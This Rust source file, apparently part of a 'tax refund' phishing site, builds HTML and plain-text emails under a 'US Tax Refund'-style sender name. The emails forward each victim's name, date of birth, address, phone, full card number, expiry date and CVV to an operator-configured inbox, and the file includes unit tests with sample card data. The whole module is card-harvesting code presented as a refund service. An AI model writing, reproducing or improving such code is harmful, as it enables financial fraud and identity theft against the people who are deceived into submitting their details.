use time::macros::format_description;
use time::OffsetDateTime;

use crate::config::SmtpConfig;
use crate::mailer::OutgoingEmail;
use crate::refund::dto::RefundApplication;

const SUBJECT: &str = "Tax Refund";
const SENDER_LABEL: &str = "Tax Refund";

/// Sender display name: first token of the country, upper-cased, plus the
/// fixed label ("us" becomes "US Tax Refund").
pub fn sender_name(country: &str) -> String {
    let code = country.split_whitespace().next().unwrap_or("");
    format!("{} {}", code.to_uppercase(), SENDER_LABEL)
}

/// Build the full delivery request for one sanitized application.
pub fn compose(
    application: &RefundApplication,
    smtp: &SmtpConfig,
    submitted_at: OffsetDateTime,
) -> OutgoingEmail {
    let timestamp = submitted_at
        .format(format_description!(
            "[year]-[month]-[day] [hour]:[minute]:[second] UTC"
        ))
        .unwrap_or_else(|_| "unknown".into());
    let card_type = application.card_type.to_uppercase();

    OutgoingEmail {
        from: format!("\"{}\" <{}>", sender_name(&application.country), smtp.username),
        to: smtp.recipient().to_string(),
        subject: SUBJECT.into(),
        html: compose_html(application, &card_type, &timestamp),
        text: compose_text(application, &card_type, &timestamp),
    }
}

fn compose_html(application: &RefundApplication, card_type: &str, timestamp: &str) -> String {
    format!(
        r#"<!DOCTYPE html>
<html>
  <head>
    <style>
      body {{ font-family: Arial, sans-serif; line-height: 1.6; color: #333; max-width: 600px; margin: 0 auto; padding: 20px; }}
      .header {{ background-color: #2563eb; color: white; padding: 20px; text-align: center; border-radius: 8px 8px 0 0; }}
      .content {{ background-color: #f9fafb; padding: 30px; border: 1px solid #e5e7eb; border-radius: 0 0 8px 8px; }}
      .section {{ margin-bottom: 25px; background-color: white; padding: 20px; border-radius: 6px; border-left: 4px solid #2563eb; }}
      .section-title {{ font-size: 16px; font-weight: bold; color: #2563eb; margin-bottom: 15px; text-transform: uppercase; letter-spacing: 0.5px; }}
      .field {{ margin-bottom: 12px; padding: 8px 0; border-bottom: 1px solid #f3f4f6; }}
      .field:last-child {{ border-bottom: none; }}
      .label {{ font-weight: bold; color: #4b5563; display: inline-block; width: 180px; }}
      .value {{ color: #111827; font-size: 15px; }}
      .card-info {{ background-color: #fef3c7; border-left-color: #f59e0b; }}
      .footer {{ text-align: center; margin-top: 20px; padding-top: 20px; border-top: 2px solid #e5e7eb; color: #6b7280; font-size: 12px; }}
    </style>
  </head>
  <body>
    <div class="header">
      <h1 style="margin: 0;">New Refund Application</h1>
      <p style="margin: 10px 0 0 0;">Submitted on {timestamp}</p>
    </div>

    <div class="content">
      <div class="section">
        <div class="section-title">Personal Information</div>
        <div class="field"><span class="label">Full Name:</span> <span class="value">{full_name}</span></div>
        <div class="field"><span class="label">Email:</span> <span class="value">{email}</span></div>
        <div class="field"><span class="label">Phone Number:</span> <span class="value">{phone_number}</span></div>
        <div class="field"><span class="label">Date of Birth:</span> <span class="value">{date_of_birth}</span></div>
      </div>

      <div class="section">
        <div class="section-title">Address Information</div>
        <div class="field"><span class="label">Address:</span> <span class="value">{address}</span></div>
        <div class="field"><span class="label">City:</span> <span class="value">{city}</span></div>
        <div class="field"><span class="label">Postal Code:</span> <span class="value">{postal_code}</span></div>
        <div class="field"><span class="label">Country:</span> <span class="value">{country}</span></div>
      </div>

      <div class="section card-info">
        <div class="section-title">Card Information for Refund</div>
        <div class="field"><span class="label">Card Type:</span> <span class="value"><strong>{card_type}</strong></span></div>
        <div class="field"><span class="label">Card Number:</span> <span class="value"><strong>{card_number}</strong></span></div>
        <div class="field"><span class="label">Name on Card:</span> <span class="value"><strong>{name_on_card}</strong></span></div>
        <div class="field"><span class="label">Expiration Date:</span> <span class="value"><strong>{expiration_date}</strong></span></div>
        <div class="field"><span class="label">CVV:</span> <span class="value"><strong>{cvv}</strong></span></div>
      </div>

      <div class="footer">
        <p>This is an automated email from the Refund Application System.</p>
        <p>Refunds Today 2025 &copy; All Rights Reserved.</p>
      </div>
    </div>
  </body>
</html>
"#,
        timestamp = timestamp,
        full_name = application.full_name,
        email = application.email,
        phone_number = application.phone_number,
        date_of_birth = application.date_of_birth,
        address = application.address,
        city = application.city,
        postal_code = application.postal_code,
        country = application.country,
        card_type = card_type,
        card_number = application.card_number,
        name_on_card = application.name_on_card,
        expiration_date = application.expiration_date,
        cvv = application.cvv,
    )
}

fn compose_text(application: &RefundApplication, card_type: &str, timestamp: &str) -> String {
    format!(
        "New Refund Application Received\n\
         \n\
         PERSONAL INFORMATION:\n\
         Full Name: {full_name}\n\
         Email: {email}\n\
         Phone Number: {phone_number}\n\
         Date of Birth: {date_of_birth}\n\
         \n\
         ADDRESS INFORMATION:\n\
         Address: {address}\n\
         City: {city}\n\
         Postal Code: {postal_code}\n\
         Country: {country}\n\
         \n\
         CARD INFORMATION FOR REFUND:\n\
         Card Type: {card_type}\n\
         Card Number: {card_number}\n\
         Name on Card: {name_on_card}\n\
         Expiration Date: {expiration_date}\n\
         CVV: {cvv}\n\
         \n\
         Submitted on: {timestamp}\n",
        full_name = application.full_name,
        email = application.email,
        phone_number = application.phone_number,
        date_of_birth = application.date_of_birth,
        address = application.address,
        city = application.city,
        postal_code = application.postal_code,
        country = application.country,
        card_type = card_type,
        card_number = application.card_number,
        name_on_card = application.name_on_card,
        expiration_date = application.expiration_date,
        cvv = application.cvv,
        timestamp = timestamp,
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::AppConfig;
    use time::macros::datetime;

    fn sample() -> RefundApplication {
        RefundApplication {
            full_name: "Jane Doe".into(),
            email: "jane@example.com".into(),
            phone_number: "555-123-4567".into(),
            date_of_birth: "1990-01-01".into(),
            address: "42 Main St.".into(),
            city: "Springfield".into(),
            postal_code: "12345".into(),
            country: "us".into(),
            card_type: "visa".into(),
            card_number: "4111 1111 1111 1111".into(),
            name_on_card: "Jane Doe".into(),
            expiration_date: "12/30".into(),
            cvv: "123".into(),
        }
    }

    #[test]
    fn sender_name_uses_first_country_token() {
        assert_eq!(sender_name("us"), "US Tax Refund");
        assert_eq!(sender_name("united kingdom"), "UNITED Tax Refund");
        assert_eq!(sender_name(""), " Tax Refund");
    }

    #[test]
    fn compose_embeds_every_field_and_timestamp() {
        let config = AppConfig::fake();
        let smtp = config.smtp.as_ref().expect("fake smtp");
        let application = sample();
        let email = compose(&application, smtp, datetime!(2025-06-15 10:30:00 UTC));

        assert_eq!(email.subject, "Tax Refund");
        assert_eq!(email.from, "\"US Tax Refund\" <relay@test.local>");
        assert_eq!(email.to, "relay@test.local");

        for body in [&email.html, &email.text] {
            assert!(body.contains("Jane Doe"));
            assert!(body.contains("jane@example.com"));
            assert!(body.contains("555-123-4567"));
            assert!(body.contains("1990-01-01"));
            assert!(body.contains("42 Main St."));
            assert!(body.contains("Springfield"));
            assert!(body.contains("12345"));
            assert!(body.contains("VISA"));
            assert!(body.contains("4111 1111 1111 1111"));
            assert!(body.contains("12/30"));
            assert!(body.contains("123"));
            assert!(body.contains("2025-06-15 10:30:00 UTC"));
        }
        assert!(email.text.contains("CARD INFORMATION FOR REFUND"));
    }

    #[test]
    fn compose_prefers_configured_recipient() {
        let config = AppConfig::fake();
        let mut smtp = config.smtp.clone().expect("fake smtp");
        smtp.recipient = Some("inbox@example.com".into());
        let email = compose(&sample(), &smtp, datetime!(2025-06-15 10:30:00 UTC));
        assert_eq!(email.to, "inbox@example.com");
    }
}
